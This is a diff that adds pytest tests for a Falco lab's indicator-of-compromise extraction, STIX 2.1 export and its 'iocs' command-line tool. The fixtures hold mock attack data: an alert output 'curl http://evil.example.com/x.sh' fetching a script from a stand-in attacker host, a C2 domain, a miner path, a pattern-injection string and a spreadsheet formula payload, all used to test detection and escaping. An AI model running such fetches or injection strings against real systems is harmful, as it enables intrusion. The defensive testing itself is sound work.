@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pandas as pd
 import pytest
 
@@ -259,3 +261,200 @@ def test_simulated_incident_has_its_attack_indicators():
     attacked = f"{info['namespace']}/{info['pod']}"
     in_pod = iocs[iocs["pods"].map(lambda pods: attacked in pods)]
     assert {"ipv4", "file"} <= set(in_pod["type"]), in_pod[["type", "value"]]
+
+
+# -- STIX 2.1 --------------------------------------------------------------------------------
+
+EVERY_TYPE = (
+    {"fd.sip": "203.0.113.9", "fd.sport": 4444, "k8s.ns.name": "shop", "k8s.pod.name": "api-1"},
+    {"fd.sip": "2001:db8::9", "fd.sip.name": "c2.example.com"},
+    {"output": "curl http://evil.example.com/x.sh", "proc.exepath": "/tmp/.x/miner"},
+    {"custom.sha256": "0f" * 32, "custom.md5": "1e" * 16, "custom.sha1": "2d" * 20},
+    {"container.image.repository": "ghcr.io/evil/miner", "container.image.tag": "1.0", "user.name": "root"},
+)
+
+
+def _bundle(df: pd.DataFrame, **kw) -> dict:
+    from falco_lab.analysis.stix import stix_bundle
+
+    return stix_bundle(extract_iocs(df, **kw))
+
+
+def test_stix_bundle_is_parsed_by_the_stix2_library_without_custom_content():
+    import stix2  # a dev dependency: the bundle is checked by the reference implementation
+
+    bundle = _bundle(alerts(*EVERY_TYPE))
+    parsed = stix2.parse(json.dumps(bundle), allow_custom=False)
+    kinds = [o.type for o in parsed.objects]
+    assert kinds.count("indicator") == kinds.count("sighting") == len(extract_iocs(alerts(*EVERY_TYPE)))
+    assert {"ipv4", "ipv6", "domain", "url", "file", "sha256", "sha1", "md5", "image", "user"} == {
+        o.labels[1].split(":", 1)[1] for o in parsed.objects if o.type == "indicator"
+    }
+
+
+def test_stix_bundle_passes_the_stix_validator():
+    import stix2validator as validator
+
+    results = validator.validate_string(
+        json.dumps(_bundle(alerts(*EVERY_TYPE))), validator.ValidationOptions(version="2.1")
+    )
+    assert results.is_valid
+    # the one recommendation not followed: identifiers are UUIDv5 (stable), not random UUIDv4
+    assert results.warnings and all("{103} Given ID value" in w for w in results.warnings)
+
+
+def test_stix_sighting_carries_first_last_and_count():
+    bundle = _bundle(alerts({"fd.sip": "203.0.113.9", "t": 1}, {"fd.sip": "203.0.113.9", "t": 61.5}))
+    (sighting,) = [o for o in bundle["objects"] if o["type"] == "sighting"]
+    assert sighting["first_seen"] == "2026-11-27T10:00:01.000Z"
+    assert sighting["last_seen"] == "2026-11-27T10:01:01.500Z"
+    assert sighting["count"] == 2
+
+
+def test_stix_ids_are_stable_across_runs():
+    first = json.dumps(_bundle(alerts(*EVERY_TYPE)), sort_keys=True)
+    assert json.dumps(_bundle(alerts(*EVERY_TYPE)), sort_keys=True) == first
+
+
+def test_stix_indicator_id_depends_on_type_and_value_only():
+    one = _bundle(alerts({"fd.sip": "203.0.113.9", "rule": "A"}))
+    two = _bundle(alerts({"fd.sip": "203.0.113.9", "rule": "B", "t": 99}))
+    ids = [[o["id"] for o in b["objects"] if o["type"] == "indicator"] for b in (one, two)]
+    assert ids[0] == ids[1]
+
+
+@pytest.mark.parametrize(
+    ("kind", "value", "pattern"),
+    [
+        ("ipv4", "203.0.113.9", "[ipv4-addr:value = '203.0.113.9']"),
+        ("domain", "c2.example.com", "[domain-name:value = 'c2.example.com']"),
+        ("sha256", "ab" * 32, f"[file:hashes.'SHA-256' = '{'ab' * 32}']"),
+        ("file", "/bin/hack", "[file:name = 'hack' AND file:parent_directory_ref.path = '/bin']"),
+        ("file", "/hack", "[file:name = 'hack' AND file:parent_directory_ref.path = '/']"),
+    ],
+)
+def test_stix_patterns(kind, value, pattern):
+    from falco_lab.analysis.stix import stix_pattern
+
+    assert stix_pattern(kind, value) == pattern
+
+
+def test_stix_pattern_escapes_quotes_and_backslashes_of_attacker_values():
+    import stix2patterns.v21.pattern as stix2patterns
+
+    from falco_lab.analysis.stix import stix_pattern
+
+    evil = "/tmp/x' OR file:name = 'y\\'] AND [a:b = 'c"
+    pattern = stix_pattern("file", evil)
+    inspected = stix2patterns.Pattern(pattern).inspect()
+    values = [c[2] for c in inspected.comparisons["file"]]
+    assert values == ["'x\\' OR file:name = \\'y\\\\\\'] AND [a:b = \\'c'", "'/tmp'"]
+
+
+def test_stix_note_says_how_many_indicators_were_left_out():
+    bundle = _bundle(alerts(*({"fd.name": f"/tmp/f{i}"} for i in range(5))), limits=IocLimits(max_rows=2))
+    (note,) = [o for o in bundle["objects"] if o["type"] == "note"]
+    assert note["abstract"] == "3 more indicator(s) not included"
+
+
+def test_stix_rejects_an_unknown_indicator_type():
+    from falco_lab.analysis.stix import stix_pattern
+
+    with pytest.raises(ValueError, match="no STIX pattern for indicator type 'mac'"):
+        stix_pattern("mac", "00:11:22:33:44:55")
+
+
+# -- falco-lab iocs ----------------------------------------------------------------------------
+
+
+def _alert_line(**fields: object) -> str:
+    output = str(fields.pop("output", "alert"))
+    return json.dumps(
+        {
+            "time": "2026-11-27T10:00:00.123456789Z",
+            "rule": "Test rule",
+            "priority": "Critical",
+            "source": "syscall",
+            "hostname": "node-1",
+            "output": output,
+            "output_fields": fields,
+        }
+    )
+
+
+def _events(tmp_path, *lines: str):
+    path = tmp_path / "events.jsonl"
+    path.write_text("".join(line + "\n" for line in lines))
+    return path
+
+
+def test_cli_json_lists_indicators_with_totals(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9", "fd.sport": 22}))
+    assert main(["iocs", str(path)]) == 0
+    document = json.loads(capsys.readouterr().out)
+    assert document["alerts"] == 1 and document["total"] == document["shown"] == 1 and document["more"] == 0
+    assert document["indicators"][0]["value"] == "203.0.113.9"
+    assert document["indicators"][0]["first_seen"] == "2026-11-27T10:00:00.123456789Z"
+
+
+def test_cli_writes_stix_to_a_file(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9"}))
+    out = tmp_path / "iocs.stix.json"
+    assert main(["iocs", str(path), "--format", "stix", "-o", str(out)]) == 0
+    assert json.loads(out.read_text())["type"] == "bundle"
+    assert "wrote" in capsys.readouterr().err
+
+
+def test_cli_csv_defuses_spreadsheet_formulas(tmp_path, capsys):
+    import csv
+    import io
+
+    from falco_lab.cli import main
+
+    path = _events(tmp_path, _alert_line(**{"user.name": '=HYPERLINK("http://x")'}))
+    assert main(["iocs", str(path), "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0]["type"] == "user" and rows[0]["value"] == '\'=HYPERLINK("http://x")'
+
+
+def test_cli_says_how_many_indicators_were_left_out(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    path = _events(tmp_path, *(_alert_line(**{"fd.name": f"/tmp/f{i}"}) for i in range(4)))
+    assert main(["iocs", str(path), "--max-rows", "1", "--fields-only"]) == 0
+    captured = capsys.readouterr()
+    assert json.loads(captured.out)["more"] == 3
+    assert "3 more indicator(s) not listed" in captured.err
+
+
+def test_cli_missing_file_is_an_error_naming_it(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    assert main(["iocs", str(tmp_path / "nope.jsonl")]) == 1
+    assert "nope.jsonl: cannot read" in capsys.readouterr().err
+
+
+def test_cli_bad_record_is_named_by_file_and_line(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9"}), "{not json")
+    assert main(["iocs", str(path)]) == 0
+    assert f"{path}:2" in capsys.readouterr().err
+
+
+def test_cli_no_alerts_is_an_error(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    assert main(["iocs", str(_events(tmp_path))]) == 1
+    assert "no alerts" in capsys.readouterr().err
+
+
+def test_cli_negative_max_rows_is_rejected(tmp_path, capsys):
+    from falco_lab.cli import main
+
+    assert main(["iocs", str(_events(tmp_path, _alert_line())), "--max-rows", "-1"]) == 2
+    assert "--max-rows" in capsys.readouterr().err
